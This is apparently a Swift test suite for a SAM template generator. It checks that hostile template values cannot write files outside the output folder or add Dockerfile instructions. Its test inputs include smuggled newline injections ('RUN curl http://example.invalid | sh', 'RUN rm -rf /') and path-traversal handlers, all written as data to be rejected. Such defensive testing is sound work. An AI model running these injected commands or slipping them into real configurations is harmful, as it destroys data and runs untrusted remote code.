import Foundation
import Testing

@testable import SAMGenerator

/// Issue 13, item 8: nothing a template says can make `esb generate` write outside `--output` or add a
/// Dockerfile instruction. Hostile handlers, logical ids, names and ImageConfig values are refused with a
/// located error; whatever is accepted is checked file by file.
@Suite("Generated paths stay inside --output")
struct OutputContainmentTests {
    /// Every folder exists, no file does: InlineCode functions need neither.
    struct AnyFolder: ProjectFileSystem {
        func isDirectory(_ path: String) -> Bool { true }
        func isFile(_ path: String) -> Bool { false }
    }

    static func generate(_ resources: String) -> Result<GeneratedProject, GenerationFailure> {
        let options = GeneratorOptions(
            templatePath: "template.yaml", templateDirectory: "/app", outputDirectory: "/app/.esb")
        let text = "Resources:\n" + resources
        do {
            return .success(
                try ProjectGenerator.generate(templateText: text, options: options, fileSystem: AnyFolder()))
        } catch {
            return .failure(error)
        }
    }

    static func inline(id: String = "Fn", runtime: String = "nodejs20.x", handler: String, extra: String = "") -> String
    {
        """
          \(id):
            Type: AWS::Serverless::Function
            Properties:
              Runtime: \(runtime)
              Handler: \(handler)
              InlineCode: "exports.handler = async () => 1"
        \(extra)
        """
    }

    @Test func aNodeInlineHandlerCannotClimbOutOfTheOutput() throws {
        guard case .failure(let failure) = Self.generate(Self.inline(handler: "\"../../../../tmp/escape.handler\""))
        else {
            Issue.record("a handler with ../ was accepted")
            return
        }
        #expect(
            failure.errors.map(\.description) == [
                "template.yaml:6:16: error: Handler \"../../../../tmp/escape.handler\" must name a module inside the function's code: letters, digits, '_', '-', '.' and '/' without '..' or a leading '/'"
            ])
    }

    @Test func aLogicalIdWithANewlineCannotWriteADockerfileInstruction() throws {
        let resources = Self.inline(id: "\"Evil\\nRUN curl http://example.invalid | sh\\n#\"", handler: "index.handler")
        guard case .failure(let failure) = Self.generate(resources) else {
            Issue.record("a logical id with a newline was accepted")
            return
        }
        #expect(
            failure.errors.map(\.description) == [
                "template.yaml:2:3: error: logical id \"Evil\\nRUN curl http://example.invalid | sh\\n#\" is not valid: CloudFormation allows letters and digits only"
            ])
    }

    @Test func imageConfigValuesCannotStartAnInstruction() throws {
        let resources = """
              Img:
                Type: AWS::Serverless::Function
                Properties:
                  PackageType: Image
                  ImageUri: base:1
                  ImageConfig:
                    WorkingDirectory: "/var/task\\nRUN rm -rf /"
            """
        guard case .failure(let failure) = Self.generate(resources) else {
            Issue.record("a WorkingDirectory with a newline was accepted")
            return
        }
        #expect(
            failure.errors.first?.message.hasPrefix("ImageConfig.WorkingDirectory must not contain control characters")
                == true)
    }

    static let hostileHandlers = [
        "index.handler", "src/index.handler", "../x.handler", "a/../../x.handler", "/etc/passwd.handler", "./x.handler",
        "a//b.handler", "x\\ny.handler", "..handler", "a/..x.handler", "%2e%2e/x.handler", "a\\\\b.handler",
        "C:/x.handler",
    ]
    static let hostileNames = [
        "WeatherFunction", "../up", "..", ".", "a/b", "a\\nb", "name.with.dots", String(repeating: "n", count: 65),
    ]

    /// Every combination either fails with a located error or writes only paths under the output folder, and
    /// no generated Dockerfile has an instruction the generator did not mean to write.
    @Test(arguments: [("nodejs20.x", false), ("python3.12", true)])
    func everyAcceptedPathStaysInside(_ runtime: String, _ python: Bool) throws {
        var accepted = 0
        for handler in Self.hostileHandlers {
            for name in Self.hostileNames {
                let extra = "      FunctionName: \"\(name)\""
                let resources = Self.inline(runtime: runtime, handler: "\"\(handler)\"", extra: extra)
                guard case .success(let project) = Self.generate(resources) else { continue }
                accepted += 1
                for file in project.files {
                    #expect(GeneratedConfigCheck.isInside(file.path), "\(handler) / \(name) wrote \(file.path)")
                    #expect(!PathTools.normalize(file.path).hasPrefix(".."), "\(file.path)")
                    guard file.path.hasSuffix("Dockerfile") else { continue }
                    let instructions = file.contents.split(separator: "\n").filter { !$0.hasPrefix("#") }.map {
                        $0.split(separator: " ")[0]
                    }
                    #expect(Set(instructions).isSubset(of: ["ARG", "FROM", "COPY", "CMD"]), "\(file.contents)")
                }
            }
        }
        // index.handler and src/index.handler with the name WeatherFunction: the only harmless combinations.
        #expect(accepted == 2)
    }

    @Test(arguments: [
        ("functions.yml", true), ("functions/a/inline/src/index.js", true), ("../x", false), ("/etc/x", false),
        ("functions/../../x", false), ("a//b", false), ("./a", false), ("", false), ("a\nb", false),
    ])
    func insideMeansUnderTheOutputFolder(_ path: String, _ inside: Bool) {
        #expect(GeneratedConfigCheck.isInside(path) == inside)
    }
}
